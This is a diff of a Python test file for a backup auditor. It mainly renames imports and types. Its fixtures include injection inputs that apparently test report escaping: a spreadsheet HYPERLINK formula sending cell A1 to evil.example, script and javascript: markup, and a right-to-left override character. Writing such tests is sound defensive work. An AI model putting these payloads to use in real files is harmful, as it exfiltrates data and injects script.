@@ -3,16 +3,14 @@
 from dataclasses import replace
 from functools import cache
 
-from backup_auditor.controls.catalogue import CATALOGUE
-from backup_auditor.domain.evaluation import Catalogue, evaluate
+from backup_auditor.controls.catalog import CATALOG
+from backup_auditor.domain.evaluation.evaluator import ControlCatalog, evaluate
 from backup_auditor.domain.finding import Resource, ResourceType, Severity, fingerprint
-from backup_auditor.domain.history import Drift, Resolved
-from backup_auditor.domain.inventory import Inventory
-from backup_auditor.domain.lifecycle.advancing import advance
-from backup_auditor.domain.listing import Unread, Walk
-from backup_auditor.domain.memory import NOTHING
-from backup_auditor.domain.report import Report, audit_id_of, report_of
-from backup_auditor.domain.walks import listing_of
+from backup_auditor.domain.inventory import Inventory, merge_reads
+from backup_auditor.domain.lifecycle.advance import advance
+from backup_auditor.domain.listing import ListingRead, ReadFailure
+from backup_auditor.domain.project_state import EMPTY_STATE, Drift, ResolvedFinding
+from backup_auditor.domain.reporting.report import Report, audit_id_of, make_report
 from builders import DAY, NOW, IndexCase, backup, index, inventory, renamed, schedule
 from reports import EXEMPTION, bare, exempting
 
@@ -28,21 +26,23 @@ CONTROLS = (
 )
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1, '@octocat')"
 MARKUP = '<script>alert(1)</script> [x](javascript:alert(1)) `a|b` "q" #1 \u202egnp.\x07\n</testsuite> :+1: {0}'
-ERROR = Unread("GET /indexes/vectors/backup-schedules", "503: <b>@octocat</b> =1+1, see http://evil.example and #12")
+ERROR = ReadFailure(
+    "GET /indexes/vectors/backup-schedules", "503: <b>@octocat</b> =1+1, see http://evil.example and #12"
+)
 
 
-def chosen(*controls: str) -> Catalogue:
+def chosen(*controls: str) -> ControlCatalog:
     """Return a catalogue of these controls alone."""
-    return Catalogue(
-        project=tuple(it for it in CATALOGUE.project if it.id in controls),
-        index=tuple(it for it in CATALOGUE.index if it.id in controls),
-        deleted_index=tuple(it for it in CATALOGUE.deleted_index if it.id in controls),
+    return ControlCatalog(
+        project=tuple(it for it in CATALOG.project if it.id in controls),
+        index=tuple(it for it in CATALOG.index if it.id in controls),
+        deleted_index=tuple(it for it in CATALOG.deleted_index if it.id in controls),
     )
 
 
 FEW = chosen(*CONTROLS)
 _EVENTS = Resource(ResourceType.INDEX, "default", "events", "id-events")
-GONE = Resolved(
+GONE = ResolvedFinding(
     fingerprint("schedule-is-enabled", _EVENTS),
     "schedule-is-enabled",
     _EVENTS,
@@ -80,7 +80,7 @@ def nights() -> list[Inventory]:
     """
     gone = replace(backup(90 * DAY, backup_id="manual-old", index_id="id-old"), index_name="old")
     lasting = (bare("carts"), bare("scratch-1"))
-    unread = renamed(index(schedules=listing_of([Walk((), ERROR)])), "vectors")
+    unread = renamed(index(schedules=merge_reads([ListingRead((), ERROR)])), "vectors")
     nights = [
         inventory(*lasting, _paused("orders"), _paused("wiki"), _well("vectors"), more=[gone]),
         inventory(*lasting, _paused("orders"), _well("wiki"), _well("vectors"), more=[gone]),
@@ -90,13 +90,13 @@ def nights() -> list[Inventory]:
 
 
 @cache
-def told(catalogue: Catalogue = FEW) -> Report:
+def told(catalogue: ControlCatalog = FEW) -> Report:
     """Audit the three nights, and return the report of the last."""
-    memory, report = NOTHING, None
+    memory, report = EMPTY_STATE, None
     for night in nights():
         judgement = evaluate(night, POLICY, catalogue, memory)
         outcome = advance(memory, night, POLICY, judgement, audit_id_of(night, POLICY))
-        memory, report = outcome.memory, report_of(night, POLICY, judgement, outcome)
+        memory, report = outcome.memory, make_report(night, POLICY, judgement, outcome)
     assert report is not None
     # whatever an inventory comes to hold, its hash is not what is looked at here
     return replace(
